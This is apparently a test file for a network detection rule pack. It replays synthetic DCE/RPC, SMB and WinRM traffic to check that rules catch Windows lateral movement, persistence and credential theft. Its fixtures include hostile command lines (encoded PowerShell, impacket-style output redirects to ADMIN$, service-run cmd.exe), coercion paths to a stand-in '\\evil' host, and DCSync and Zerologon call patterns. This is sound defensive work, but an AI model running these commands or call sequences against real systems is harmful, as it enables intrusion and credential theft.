import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { collect, Engine, type Ruleset } from '../../src/index.js';
import {
  bstr,
  type Call,
  type Conversation,
  capture,
  type DcerpcConversation,
  dcerpc,
  type Frame,
  HANDLE,
  ORPC_THIS,
  pointer,
  type Security,
  smb,
  tcp,
  u32,
  unicode,
  utf16,
  uuidBytes,
  wide,
} from '../../src/testing/index.js';
import { shippedProofs } from '../proofs.js';
import { change, create, open, remove, start } from './services.js';
import {
  activation,
  changeService,
  createService,
  eptMap,
  execMethod,
  gives,
  invoke,
  login,
  names,
  putInstance,
  resolved,
} from './stubs.js';
import { envelope, SHELL, SOAP, wsman } from './wsman.js';

const RULES = join(import.meta.dirname, '../../rules');

const SVCCTL = '367abb81-9844-35f1-ad32-98f038001003';
const TASKS = '86d35949-83c9-4044-b424-db363231fd0c';
const ATSVC = '1ff70682-0a51-30e8-076d-740be8cee98b';
const WBEM = '9556dc99-828c-11cf-a37e-00aa003240c7';
const WBEM_LOGIN = 'f309ad18-d86a-11d0-a075-00c04fb68820';
const ACTIVATOR = '000001a0-0000-0000-c000-000000000046';
const OLD_ACTIVATOR = '4d9f4ab8-7d1c-11cf-861e-0020af6e7c57';
const DISPATCH = '00020400-0000-0000-c000-000000000046';
const FACTORY = '00000001-0000-0000-c000-000000000046';
const REM_UNKNOWN = '00000143-0000-0000-c000-000000000046';
const DRSUAPI = 'e3514235-4b06-11d1-ab04-00c04fc2dcd2';
const NETLOGON = '12345678-1234-abcd-ef00-01234567cffb';
const LSARPC = '12345778-1234-abcd-ef00-0123456789ab';
const SAMR = '12345778-1234-abcd-ef00-0123456789ac';
const BACKUP_KEY = '3dde7c30-165d-11d1-ab8f-00805f14db40';
const RESOLVER = '99fcfec4-5260-101b-bbcb-00aa0021347a';
const EFS = 'c681d488-d850-11d0-8c52-00c04fd90f7e';
const SPOOLSS = '12345678-1234-abcd-ef00-0123456789ab';
const WINSPOOL = '76f03f96-cdfd-44fc-a22c-64950a001209';
const NETDFS = '4fc742e0-4a10-11cf-8273-00aa004ae673';
const SHADOW = 'a8e0653c-2744-4389-a61d-7373df8b2292';
const EVENTLOG = '82273fdc-e32a-18c3-3f78-827929dc23ea';
const EVENTLOG6 = 'f6beaff7-1e19-4fbb-9f8f-b89e2018337c';
const SRVSVC = '4b324fc8-1670-01d3-1278-5a47bf6ee188';
const WKSSVC = '6bffd098-a112-3610-9833-46c3f87e345a';
const WINREG = '338cd001-2244-31f1-aaaa-900038001003';
const EPM = 'e1af8308-5d1f-11c9-91a4-08002b14a0fa';
const MIMIKATZ = '17fc11e9-c258-4b8d-8d07-2f4125156244';
const MMC = '49b2791a-b1ae-4c90-9b8e-e860ba07f889';
const LOGIN_CLASS = '8bc3f05e-d86b-11d0-a075-00c04fb68820';
const IPID = '00008c0c-19e0-1884-c168-d6c9a7cd5bc2';

const START = 1_704_067_200_000_000;
const SEALED: Security = {};
const IMPACKET: Security = { context: 79_231 };

/** One connection with calls on one interface. */
function calls(uuid: string, ...list: readonly (number | Call)[]): DcerpcConversation {
  return all(dcerpc({ uuid }), list);
}

/** One connection with calls on several interfaces, which are its contexts by position. */
function mixed(uuids: readonly string[], ...list: readonly Call[]): DcerpcConversation {
  return all(dcerpc(null).bind(uuids.map((uuid, id) => ({ uuid, id }))), list);
}

function all(conversation: DcerpcConversation, list: readonly (number | Call)[]): DcerpcConversation {
  for (const call of list) conversation.call(typeof call === 'number' ? { opnum: call } : call);
  return conversation;
}

/** A call after what happened on another connection: seconds later. */
function later(seconds: number, uuid: string, ...list: readonly (number | Call)[]): DcerpcConversation {
  return all(dcerpc({ uuid }, { client: '10.0.0.1:49900', start: START + seconds * 1e6 }), list);
}

/** Several frames of one kind: a SYN that is not answered. */
function syns(port: number, times: number, at = 0): readonly Frame[] {
  const [syn] = tcp({ server: `10.0.0.2:${port}`, start: START + at }).frames();
  return syn === undefined ? [] : Array.from({ length: times }, (_, nth) => ({ ...syn, time: syn.time + nth * 1e6 }));
}

const refused = (octets: number, status: number) => Buffer.concat([Buffer.alloc(octets), u32(status)]);
const sealed = (opnum: number, answer = 4): Call => ({ opnum, security: SEALED, answer: Buffer.alloc(answer) });
const service = (program: string) => calls(SVCCTL, { opnum: 12, stub: createService(program) });
/** A process that WMI makes. */
const command = (line: string) =>
  calls(WBEM, { opnum: 24, stub: execMethod('Win32_Process', 'Create', { CommandLine: line }) });
const file = (name: string, disposition: 'open' | 'create' = 'create') => smb().create(name, { disposition });
const times = (count: number, call: Call) => Array.from({ length: count }, () => call);
const zeroChallenge = (octet: number): Call => ({
  opnum: 4,
  stub: Buffer.concat([pointer(wide('\\\\dc')), wide('ws'), Buffer.alloc(8, octet)]),
});
/** Logon to a namespace, and calls on the object it gives. */
const inNamespace = (namespace: string, ...list: readonly Omit<Call, 'contextId'>[]) =>
  mixed(
    [WBEM_LOGIN, WBEM],
    { opnum: 6, stub: login(namespace), answer: gives(IPID, WBEM) },
    ...list.map((call) => ({ ...call, contextId: 1, object: IPID })),
  );
/** An object is made, a name asked for, the member invoked. */
const invoked = (name: string, texts: readonly string[] = []) =>
  mixed(
    [FACTORY, DISPATCH],
    { opnum: 3, stub: Buffer.concat([ORPC_THIS, uuidBytes(DISPATCH)]), answer: gives(IPID, DISPATCH) },
    { opnum: 5, contextId: 1, object: IPID, ...names(name, 54) },
    { opnum: 6, contextId: 1, object: IPID, stub: invoke(54, texts) },
  );
/** A connection bound as an implementation does it. */
const boundAs = (how: Parameters<DcerpcConversation['bind']>[1]) =>
  dcerpc(null)
    .bind([{ uuid: WBEM, id: 0 }], how)
    .call({ opnum: 6 });
const managed = (iid: string) => Buffer.concat([ORPC_THIS, uuidBytes(IPID), u32(5, 1, 1), uuidBytes(iid)]);
const printer = (machine: string): Call => ({
  opnum: 65,
  stub: Buffer.concat([HANDLE, u32(0x100, 0), pointer(wide(machine)), u32(0, 0)]),
});

const root = (server: string): Call => ({
  opnum: 13,
  stub: Buffer.concat([wide(server), wide('x'), u32(0)]),
});
/** The machine called, and one that is neither it nor the caller. */
const OWN = '\\\\10.0.0.2';
const THIRD = '\\\\10.0.0.9';
/** The same call to so many machines, a second apart. */
const toEach = (hosts: number, uuid: string, opnum: number) =>
  Array.from({ length: hosts }, (_, nth) =>
    dcerpc(
      { uuid },
      { server: `10.0.1.${nth + 1}:135`, client: `10.0.0.1:${50_000 + nth}`, start: START + nth * 1e6 },
    ).call({ opnum }),
  );
const lookup = (inquiry: number): Call => ({
  opnum: 2,
  stub: Buffer.concat([u32(inquiry, 0, 0, 1), HANDLE, u32(500)]),
});
const PROGRAM = Buffer.from('MZ\x90\0');
const OUTPUT = Buffer.from('Volume in drive C');
/** A connection to a share of the machine called. */
const share = (name: string, at = 0) => smb({ start: START + at * 1e6 }).connect(`${OWN}\\${name}`);
/** A name that nobody has told. */
const random = () => Math.random().toString(36).slice(2, 10);

type Scene = Conversation | readonly (Conversation | readonly Frame[])[];

/** For each rule that alerts, by sid: a conversation it hits, and one that is near and must be missed. */
const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>> = {
  9100001: [
    calls(OLD_ACTIVATOR, { opnum: 0, stub: activation(MMC) }),
    calls(OLD_ACTIVATOR, { opnum: 0, stub: activation(LOGIN_CLASS) }),
  ],
  9100003: [
    mixed([ACTIVATOR, DISPATCH], sealed(4), { opnum: 5, contextId: 1 }),
    mixed([ACTIVATOR, WBEM_LOGIN], sealed(4), { opnum: 6, contextId: 1 }),
  ],
  9100010: [invoked('executeSHELLcommand'), invoked('Document')],
  9100011: [invoked('Run', ['calc.exe']), invoked('Run')],
  9100012: [
    calls(DISPATCH, { opnum: 6, object: IPID, stub: invoke(54, ['cmd.exe', '/c dir']) }),
    calls(DISPATCH, { opnum: 6, object: IPID, stub: invoke(54, ['a', 'b']) }),
  ],
  9100013: [
    calls(DISPATCH, { opnum: 6, object: IPID, stub: invoke(0x6003_0001, ['cmd.exe', '/c dir']) }),
    calls(DISPATCH, { opnum: 6, object: IPID, stub: invoke(0x6003_0002, ['cmd.exe', '/c dir']) }),
  ],
  9100020: [
    command('powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'),
    command('powershell.exe -nop -file c:\\x.ps1'),
  ],
  9100021: [
    command('cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1'),
    command('cmd.exe /Q /c dir 1> \\\\files\\logs\\dir.txt'),
  ],
  9100022: [command('cmd.exe /C dir > %windir%\\Temp\\abcdefgh.tmp 2>&1'), command('cmd.exe /C dir')],
  9100023: [service('%COMSPEC% /Q /c x.bat'), service('c:\\tools\\cmdservice.exe /c')],
  9100024: [service('rundll32.exe c:\\x.dll,Run'), service('c:\\tools\\rundll32x.exe')],
  9100025: [service('ipconfig /all'), service('c:\\tools\\ipconfiguration.exe')],
  9100030: [
    calls(WBEM, { opnum: 6, security: { ...IMPACKET, level: 'integrity' } }),
    calls(WBEM, { opnum: 6, security: { level: 'integrity', context: 1 } }),
  ],
  9100031: [
    boundAs({ maxFragment: 4280, features: true, security: { level: 'packet' } }),
    boundAs({ maxFragment: 4280, features: true }),
  ],
  9100032: [
    mixed(
      [REM_UNKNOWN, DISPATCH],
      { opnum: 3, stub: managed('c3fcc19e-a970-11d2-8b5a-00a0c9b7c9c4') },
      { opnum: 5, contextId: 1 },
    ),
    mixed([REM_UNKNOWN, DISPATCH], { opnum: 3, stub: managed(DISPATCH) }, { opnum: 5, contextId: 1 }),
  ],
  9100041: [[syns(135, 3)], [syns(135, 2)]],
  9100042: [
    [smb().create('x'), syns(135, 3, 2e6)],
    [syns(445, 1), syns(135, 3, 2e6)],
  ],
  9100100: [
    calls(WBEM, { opnum: 24, stub: execMethod('win32_process', 'create') }),
    calls(WBEM, { opnum: 24, stub: execMethod('Win32_ProcessTrace', 'Create') }),
  ],
  9100110: [calls(WBEM, sealed(24, 1160)), calls(WBEM, sealed(6, 1160))],
  9100121: [
    inNamespace('\\\\b\\root\\subscription', sealed(14), sealed(14)),
    inNamespace('\\\\b\\root\\cimv2', sealed(14), sealed(14)),
  ],
  9100122: [
    calls(WBEM, { opnum: 14, stub: putInstance('CommandLineEventConsumer') }),
    calls(WBEM, { opnum: 14, stub: putInstance('LogFileEventConsumer') }),
  ],
  9100123: [
    inNamespace('//./root/subscription', sealed(14), sealed(14), sealed(16)),
    inNamespace('//./root/subscription', sealed(14), sealed(16)),
  ],
  9100130: [
    calls(WBEM, { opnum: 24, stub: execMethod('StdRegProv', 'EnumKey') }),
    calls(WBEM, { opnum: 6, stub: Buffer.concat([ORPC_THIS, bstr('StdRegProv'), u32(0, 0)]) }),
  ],
  9100131: [inNamespace('\\\\b\\root\\default', sealed(24)), inNamespace('\\\\b\\root\\cimv2', sealed(24))],
  // More than a window without scaling takes: the capture begins behind the handshake.
  9100132: [
    all(dcerpc({ uuid: WBEM }, { handshake: false }), [{ ...sealed(24, 70_000), answerFragment: 5000 }]),
    all(dcerpc({ uuid: WBEM }, { handshake: false }), [{ ...sealed(6, 70_000), answerFragment: 5000 }]),
  ],
  9100140: [
    calls(WBEM, { opnum: 24, stub: execMethod('Win32_Service', 'Create', { PathName: 'c:\\x.exe' }) }),
    calls(WBEM, { opnum: 24, stub: execMethod('Win32_Share', 'Create', { Path: 'c:\\x' }) }),
  ],
  9100141: [
    calls(WBEM, { opnum: 24, stub: execMethod('Win32_Service.Name="x"', 'StartService') }),
    calls(WBEM, { opnum: 24, stub: execMethod('Win32_Service.Name="x"', 'InterrogateService') }),
  ],
  9100142: [calls(WBEM, sealed(24, 424)), calls(WBEM, sealed(24, 912))],
  9100201: [calls(SVCCTL, sealed(45), sealed(19)), calls(SVCCTL, sealed(16), sealed(19))],
  9100203: [calls(SVCCTL, 12, 19, 2), [calls(SVCCTL, 12, 19), later(11, SVCCTL, 2)]],
  9100205: [
    calls(SVCCTL, create('c:\\x.exe', 7), start(7), remove(7)),
    calls(SVCCTL, create('c:\\x.exe', 7), open('y', 8), start(7), remove(8)),
  ],
  9100204: [calls(SVCCTL, 16, 19), calls(SVCCTL, 12, 19)],
  9100210: [service('c:\\x.exe'), calls(SVCCTL, { opnum: 12, stub: createService('c:\\x.exe'), security: SEALED })],
  9100211: [service('%COMSPEC% /Q /c whoami'), service('c:\\program files\\agent\\agent.exe')],
  9100212: [
    service('cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1'),
    service('cmd.exe /Q /c dir 1> \\\\files\\logs\\dir.txt'),
  ],
  9100220: [
    calls(SVCCTL, { opnum: 11, stub: changeService('c:\\x.exe') }),
    calls(SVCCTL, { opnum: 11, stub: Buffer.concat([HANDLE, u32(16, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)]) }),
  ],
  9100222: [calls(SVCCTL, sealed(11), sealed(19)), calls(SVCCTL, sealed(19), sealed(11))],
  9100223: [calls(SVCCTL, 11, 19, 11), calls(SVCCTL, 11, 11, 19)],
  9100227: [
    calls(SVCCTL, open('x', 7), change(7), start(7)),
    calls(SVCCTL, open('x', 7), open('y', 8), change(7), start(8)),
  ],
  9100228: [
    calls(SVCCTL, open('x', 7), change(7), start(7), change(7)),
    calls(SVCCTL, open('x', 7), open('y', 8), change(7), start(7), change(8)),
  ],
  9100224: [
    [file('Windows\\System32\\wlbsctrl.dll'), later(60, SVCCTL, sealed(1))],
    [file('Windows\\System32\\wlbsctrl.dll', 'open'), later(60, SVCCTL, sealed(1))],
  ],
  9100225: [
    calls(SVCCTL, { opnum: 1, stub: Buffer.concat([HANDLE, u32(1)]), answer: Buffer.alloc(32) }),
    calls(SVCCTL, { opnum: 1, stub: Buffer.concat([HANDLE, u32(1)]), answer: refused(28, 5) }),
  ],
  9100226: [calls(SVCCTL, sealed(1)), calls(SVCCTL, 1)],
  9100230: [calls(TASKS, sealed(1)), calls(TASKS, sealed(0), sealed(7))],
  9100231: [calls(ATSVC, 0), calls(ATSVC, 2)],
  9100233: [calls(TASKS, 1, 12, 13), calls(TASKS, 12, 13)],
  9100302: [calls(DRSUAPI, ...[0, 16, 12, 3].map((opnum) => sealed(opnum))), calls(DRSUAPI, sealed(0), sealed(3))],
  9100303: [calls(DRSUAPI, { opnum: 3, security: IMPACKET }), calls(DRSUAPI, sealed(3))],
  9100311: [calls(DRSUAPI, sealed(5), sealed(6)), calls(DRSUAPI, sealed(6), sealed(5))],
  9100320: [calls(NETLOGON, zeroChallenge(0)), calls(NETLOGON, zeroChallenge(7))],
  9100321: [
    calls(NETLOGON, ...times(10, { opnum: 26, answer: refused(16, 0xc000_0022) })),
    calls(NETLOGON, ...times(9, { opnum: 26, answer: refused(16, 0xc000_0022) }), ...times(20, { opnum: 26 })),
  ],
  9100324: [calls(NETLOGON, ...times(11, sealed(26))), calls(NETLOGON, ...times(10, sealed(26)))],
  9100323: [calls(NETLOGON, zeroChallenge(0), { opnum: 30 }), calls(NETLOGON, zeroChallenge(7), { opnum: 30 })],
  9100330: [
    calls(LSARPC, { opnum: 43, stub: Buffer.concat([HANDLE, unicode('G$BCKUPKEY_P')]) }),
    calls(LSARPC, { opnum: 43, stub: Buffer.concat([HANDLE, unicode('$MACHINE.ACC')]) }),
  ],
  9100331: [
    calls(LSARPC, { opnum: 43, stub: Buffer.concat([HANDLE, unicode('$MACHINE.ACC')]) }),
    calls(LSARPC, { opnum: 43, stub: Buffer.concat([HANDLE, unicode('G$BCKUPKEY_P')]) }),
  ],
  9100332: [calls(LSARPC, sealed(43)), calls(LSARPC, sealed(44))],
  9100333: [
    calls(BACKUP_KEY, { opnum: 0, stub: Buffer.alloc(452), security: SEALED }),
    calls(BACKUP_KEY, { opnum: 0, stub: Buffer.alloc(84), security: SEALED }),
  ],
  9100400: [
    calls(EFS, { opnum: 0, stub: Buffer.concat([wide(`${THIRD}\\share\\x`), u32(0)]) }),
    calls(EFS, { opnum: 0, stub: Buffer.concat([wide(`${OWN}\\share\\x`), u32(0)]) }),
  ],
  9100412: [
    calls(EFS, { opnum: 0, stub: Buffer.concat([wide('\\\\evil\\share\\x'), u32(0)]) }),
    calls(EFS, { opnum: 0, stub: Buffer.concat([wide('c:\\x'), u32(0)]) }),
  ],
  9100401: [calls(EFS, sealed(16)), calls(EFS, sealed(2))],
  9100409: [
    calls(EFS, { opnum: 13, stub: Buffer.concat([wide('c:\\x'), wide(`${THIRD}\\share\\x`), u32(1)]) }),
    calls(EFS, { opnum: 13, stub: Buffer.concat([wide('c:\\x'), wide(`${OWN}\\share\\y`), u32(1)]) }),
  ],
  9100413: [
    calls(EFS, { opnum: 13, stub: Buffer.concat([wide('c:\\x'), wide('\\\\evil\\share\\x'), u32(1)]) }),
    calls(EFS, { opnum: 13, stub: Buffer.concat([wide('c:\\x'), wide('c:\\y'), u32(1)]) }),
  ],
  9100402: [calls(SPOOLSS, printer(THIRD)), calls(SPOOLSS, printer(OWN))],
  9100414: [calls(SPOOLSS, printer('\\\\evil')), calls(SPOOLSS, printer('ws1'))],
  9100403: [calls(NETDFS, root('10.0.0.9')), calls(NETDFS, root('10.0.0.2'))],
  9100415: [calls(NETDFS, root('evil')), calls(NETDFS, { ...root('evil'), security: SEALED })],
  9100404: [
    calls(SHADOW, { opnum: 8, stub: wide(`${THIRD}\\share`) }),
    calls(SHADOW, { opnum: 8, stub: wide(`${OWN}\\share`) }),
  ],
  9100416: [
    calls(SHADOW, { opnum: 8, stub: wide('\\\\evil\\share') }),
    calls(SHADOW, { opnum: 8, stub: wide('share') }),
  ],
  9100405: [
    calls(EVENTLOG, { opnum: 9, stub: Buffer.concat([u32(0), unicode('\\??\\UNC\\10.0.0.9\\x')]) }),
    calls(EVENTLOG, { opnum: 9, stub: Buffer.concat([u32(0), unicode('\\??\\UNC\\10.0.0.2\\x')]) }),
  ],
  9100417: [
    calls(EVENTLOG, { opnum: 9, stub: Buffer.concat([u32(0), unicode('\\??\\UNC\\evil\\x')]) }),
    calls(EVENTLOG, { opnum: 9, stub: Buffer.concat([u32(0), unicode('\\??\\c:\\x.evt')]) }),
  ],
  9100411: [
    calls(RESOLVER, { opnum: 4, stub: u32(1, 2, 0, 0, 1), answer: resolved('127.0.0.1[9997]') }),
    calls(RESOLVER, { opnum: 4, stub: u32(1, 2, 0, 0, 1), answer: resolved('10.0.0.2[9997]') }),
  ],
  9100425: [
    calls(RESOLVER, { opnum: 4, stub: u32(1, 2, 0, 0, 1), answer: resolved('10.0.0.9[9997]') }),
    calls(RESOLVER, { opnum: 4, stub: u32(1, 2, 0, 0, 1), answer: resolved('10.0.0.2[9997]') }),
  ],
  9100406: [
    calls(SRVSVC, { opnum: 74, stub: utf16('\\\\dc\\share') }),
    calls(SRVSVC, { opnum: 16, stub: utf16('\\\\dc\\share') }),
  ],
  9100408: [
    [calls(EFS, sealed(0)), tcp({ client: '10.0.0.2', server: '10.0.0.1:445', start: START + 2e6 }).toServer('x')],
    [calls(EFS, sealed(0)), tcp({ client: '10.0.0.1', server: '10.0.0.2:445', start: START + 2e6 }).toServer('x')],
  ],
  9100420: [calls(SPOOLSS, 89), calls(SPOOLSS, 10)],
  9100421: [calls(WINSPOOL, sealed(39)), calls(WINSPOOL, sealed(0))],
  9100422: [
    calls(SPOOLSS, { opnum: 89, stub: utf16('\\\\evil\\share\\x.dll', { terminated: true }) }),
    calls(SPOOLSS, { opnum: 89, stub: utf16('c:\\windows\\x.dll', { terminated: true }) }),
  ],
  9100500: [calls(EPM, sealed(2, 5000)), calls(EPM, sealed(2, 200))],
  9100502: [calls(EPM, lookup(0)), calls(EPM, lookup(1))],
  9100501: [calls(EPM, ...times(30, { opnum: 3 })), calls(EPM, ...times(29, { opnum: 3 }))],
  9100510: [calls(SAMR, 64, 13), calls(SAMR, 64, 17)],
  9100511: [calls(SAMR, 25), calls(SAMR, 20)],
  9100512: [calls(LSARPC, 35), calls(LSARPC, 57)],
  9100520: [calls(SRVSVC, 12), calls(SRVSVC, 15)],
  9100521: [calls(WKSSVC, 2), calls(WKSSVC, 0)],
  9100523: [calls(WINREG, sealed(4), sealed(9)), calls(WINREG, sealed(2), sealed(9))],
  9100524: [toEach(10, SRVSVC, 12), [...toEach(9, SRVSVC, 12), ...toEach(9, SRVSVC, 12)]],
  9100525: [toEach(10, SAMR, 33), toEach(9, SAMR, 33)],
  9100535: [calls(SVCCTL, 15, 42, 0), calls(SVCCTL, 15, 42, 16, 19, 0)],
  9100532: [calls(SVCCTL, 15, 0), calls(SVCCTL, 15, 16, 0)],
  9100540: [calls(EVENTLOG, 0), calls(EVENTLOG, 7)],
  9100541: [calls(EVENTLOG6, sealed(6)), calls(EVENTLOG6, sealed(5))],
  9100550: [calls(MIMIKATZ, sealed(2)), calls(BACKUP_KEY, sealed(2))],
  9100551: [calls(EPM, { opnum: 3, stub: eptMap(MIMIKATZ) }), calls(EPM, { opnum: 3, stub: eptMap(SVCCTL) })],
  9100603: [
    [file(random()).write(PROGRAM), later(30, OLD_ACTIVATOR, { opnum: 0, stub: activation(LOGIN_CLASS) })],
    [file('x.exe').write(Buffer.from('text')), later(30, OLD_ACTIVATOR, { opnum: 0, stub: activation(LOGIN_CLASS) })],
  ],
  9100606: [
    [
      share('C$').create(random(), { disposition: 'create' }),
      later(30, OLD_ACTIVATOR, { opnum: 0, stub: activation(LOGIN_CLASS) }),
    ],
    [
      share('public').create('x.ps1', { disposition: 'create' }),
      later(30, OLD_ACTIVATOR, { opnum: 0, stub: activation(LOGIN_CLASS) }),
    ],
  ],
  9100604: [
    [file(random()), later(30, SVCCTL, sealed(19))],
    [file(random()), later(601, SVCCTL, sealed(19))],
  ],
  9100607: [
    [
      share('C$').create('q', { disposition: 'create' }).write(PROGRAM).wait(10e6).remove(),
      later(2, SVCCTL, sealed(19)),
    ],
    [share('C$').create('q', { disposition: 'create' }).write(PROGRAM).remove(), later(2, SVCCTL, sealed(19))],
  ],
  9100611: [
    [service('cmd.exe /c dir > C:\\Windows\\Temp\\kfpzq 2>&1'), share('ADMIN$', 1).create('Temp\\kfpzq')],
    [service('cmd.exe /c dir > C:\\Windows\\Temp\\kfpzq 2>&1'), share('ADMIN$', 1).create('Temp\\other')],
  ],
  9100615: [
    [calls(SVCCTL, sealed(19)), share('ADMIN$', 1).create(random()).read(OUTPUT).remove()],
    [
      calls(SVCCTL, sealed(19)),
      share('ADMIN$', 1).create(random(), { disposition: 'create' }).write(OUTPUT).read(OUTPUT).remove(),
    ],
  ],
  9100700: [
    wsman('multipart/encrypted;protocol="application/HTTP-SPNEGO-session-encrypted"', '--Encrypted'),
    wsman(SOAP, '<s/>'),
  ],
  9100701: [
    wsman(SOAP, envelope('http://schemas.xmlsoap.org/ws/2004/09/transfer/Create', SHELL)),
    wsman(SOAP, envelope('http://schemas.xmlsoap.org/ws/2004/09/transfer/Get', SHELL)),
  ],
  9100702: [
    wsman(SOAP, envelope(`${SHELL.slice(0, -3)}Command`, SHELL, '<rsp:Command>whoami</rsp:Command>')),
    wsman(SOAP, envelope(`${SHELL.slice(0, -3)}Receive`, SHELL)),
  ],
  9100612: [file('__output', 'open'), file('output', 'open')],
};

/** What machines say to each other every day: nothing of it is worth more than a note. */
const BENIGN: Readonly<Record<string, Scene>> = {
  'a print client that wants to hear of changes, and is called back': [
    calls(SPOOLSS, printer('\\\\ws1')),
    tcp({ client: '10.0.0.2', server: '10.0.0.1:445', start: START + 2e6 }).toServer('x'),
  ],
  'a file of the called server encrypted': calls(EFS, { opnum: 4, stub: wide(`${OWN}\\share\\x`) }),
  'many machines behind one address': Array.from({ length: 30 }, (_, nth) =>
    all(dcerpc({ uuid: NETLOGON }, { client: `10.0.0.1:${50_000 + nth}`, start: START + nth * 1e6 }), [
      zeroChallenge(nth + 1),
      { opnum: 26, answer: Buffer.alloc(20) },
    ]),
  ),
  'hosts that are switched off': [syns(445, 3), syns(135, 3, 4e6)],
  'scripts saved on a file server, and an inventory of it': [
    share('scripts').create('x.ps1', { disposition: 'create' }).write(Buffer.from('Get-Item .')),
    later(30, OLD_ACTIVATOR, { opnum: 0, stub: activation(LOGIN_CLASS) }),
    later(31, WBEM, sealed(20)),
  ],
  'management objects bound late': mixed([ACTIVATOR, DISPATCH], sealed(4), { opnum: 5, contextId: 1 }),
  'a DFS root': calls(NETDFS, root('10.0.0.2')),
  'print drivers from a print administrator': [
    calls(SPOOLSS, { opnum: 89, stub: utf16(`${OWN}\\print$\\x64\\3\\x.dll`, { terminated: true }) }),
    later(1, WINSPOOL, sealed(39)),
  ],
  'the registry by WMI': calls(WBEM, { opnum: 24, stub: execMethod('StdRegProv', 'EnumKey') }),
  'a master key restored': calls(BACKUP_KEY, { opnum: 0, stub: Buffer.alloc(452), security: SEALED }),
  'services watched': [calls(SVCCTL, 15, 42, 0), ...toEach(12, SVCCTL, 15)],
  'software distributed': [
    share('ADMIN$').create('ccmsetup\\ccmsetup.exe', { disposition: 'create' }).write(PROGRAM),
    later(2, SVCCTL, { opnum: 12, stub: createService('c:\\windows\\ccmsetup\\ccmsetup.exe') }, 19),
  ],
  'a backup with shadow copies': [
    calls(SHADOW, { opnum: 8, stub: wide(`${OWN}\\share`) }),
    later(2, SVCCTL, { opnum: 12, stub: createService('c:\\program files\\backup\\agent.exe') }, 19),
  ],
  'a machine that joins a domain': [
    calls(SAMR, 64, 5, 7, 50, 58, 1),
    later(1, LSARPC, 44, 46, 0),
    later(2, NETLOGON, zeroChallenge(9), { opnum: 26, answer: Buffer.alloc(20) }, { opnum: 21, security: SEALED }),
  ],
  'group policy': share('SYSVOL').create('corp\\Policies\\gpt.ini').read(Buffer.from('[General]')),
};

/** Copies of public signatures: recorded captures show them, `pcaps/MANIFEST.tsv`. */
const RECORDED: ReadonlySet<number> = new Set([2021616, 2027189, 2027190]);

describe('the pack', () => {
  const engine = new Engine({ homeNet: 'any', externalNet: 'any', workers: 1 });
  const folder = mkdtempSync(join(tmpdir(), 'sidewire-'));
  let rules: Ruleset;
  beforeAll(async () => {
    const files = readdirSync(RULES).filter((name) => name.endsWith('.rules'));
    rules = await engine.compile({ files: files.map((name) => join(RULES, name)) });
  });
  afterAll(() => {
    rules.close();
    rmSync(folder, { recursive: true, force: true });
  });

  async function raised(scene: Scene): Promise<Set<number>> {
    return new Set((await alertsOf(scene)).map(({ alert }) => alert.signature_id));
  }

  async function alertsOf(scene: Scene) {
    const path = join(folder, 'capture.pcap');
    writeFileSync(path, 'frames' in scene ? capture(scene) : capture(...scene));
    const { alerts } = await collect(engine.replay(path, { rules, types: ['alert'] }));
    return alerts;
  }

  it('loads without a finding', () => {
    expect(rules.findings.diagnostics).toEqual([]);
    expect(rules.problems).toEqual([]);
  });

  it('has a conversation to hit and a near miss for each rule that alerts', () => {
    const silent = new Set(Array.from(ruleTexts(), ([sid, text]) => (/\bnoalert;/.test(text) ? sid : 0)));
    const alerting = rules.sids.filter((sid) => !silent.has(sid) && !RECORDED.has(sid));
    expect(Object.keys(CASES).map(Number).sort()).toEqual([...alerting].sort());
  });

  it('is proved by the table that is shipped; `npx vitest run test/pack -u` renews it', async () => {
    await expect(shippedProofs(Object.keys(CASES))).toMatchFileSnapshot(join(RULES, 'proofs.tsv'));
  });

  it('says of each rule what it detects, and where to read on', () => {
    for (const [sid, text] of ruleTexts()) {
      if (RECORDED.has(sid)) continue;
      expect(text, String(sid)).toMatch(/metadata:detection(?:_part)? (?:D\d+)[,;]/);
      if (/\bnoalert;/.test(text)) continue;
      expect(text, String(sid)).toMatch(/mitre_technique_id T\d{4}(?:\.\d{3})?;/);
      expect(text, String(sid)).toMatch(/reference:url,/);
      expect(text, String(sid)).toMatch(/priority:[123];/);
    }
  });

  it('asks about every procedure of the encrypting file system that takes a path', async () => {
    const table = readFileSync(join(RULES, '../native/data/rpc/MS-EFSR.tsv'), 'utf8');
    const rows = table.split('\n').map((line) => line.split('\t'));
    const takesPath = rows.flatMap(([opnum, , fields]) =>
      fields?.includes(' file_name:') || fields?.startsWith('file_name:') ? [Number(opnum)] : [],
    );
    expect(takesPath.length).toBeGreaterThan(10);
    for (const sid of [9100401, 9100407]) {
      const listed = /dcerpc\.opnum:([\d,-]+);/.exec(new Map(ruleTexts()).get(sid) ?? '')?.[1] ?? '';
      const opnums = listed.split(',').flatMap((range) => {
        const [from = 0, to = from] = range.split('-').map(Number);
        return Array.from({ length: to - from + 1 }, (_, nth) => from + nth);
      });
      expect(opnums, String(sid)).toEqual(takesPath);
    }
    for (const opnum of takesPath) {
      // Two procedures have flags and a reserved pointer before the path.
      const before = [15, 16].includes(opnum) ? [u32(0), u32(0)] : [];
      const stub = Buffer.concat([...before, wide(`${THIRD}\\share\\x`), wide('c:\\x'), u32(0)]);
      expect([...(await raised(calls(EFS, { opnum, stub })))], String(opnum)).toContain(9100400);
    }
  });

  it.each(Object.entries(CASES))('%s hits one conversation and misses its neighbour', async (sid, [hit, miss]) => {
    expect([...(await raised(hit))]).toContain(Number(sid));
    expect([...(await raised(miss))]).not.toContain(Number(sid));
  });

  it('knows on each connection of a caller what was done to a file on the others', async () => {
    const name = random();
    const on = (port: number, second: number) =>
      smb({ client: `10.0.0.1:${port}`, start: START + second * 1e6 }).connect(`${OWN}\\ADMIN$`);
    const run = calls(SVCCTL, sealed(19));
    const written = on(50_001, 1).create(name, { disposition: 'create' }).write(OUTPUT);
    const read = on(50_002, 2).create(name).read(OUTPUT);
    const removed = (second: number) => on(50_003, second).create(name).remove();
    expect([...(await raised([run, read, removed(10)]))]).toContain(9100615);
    expect([...(await raised([run, written, read, removed(10)]))]).not.toContain(9100615);
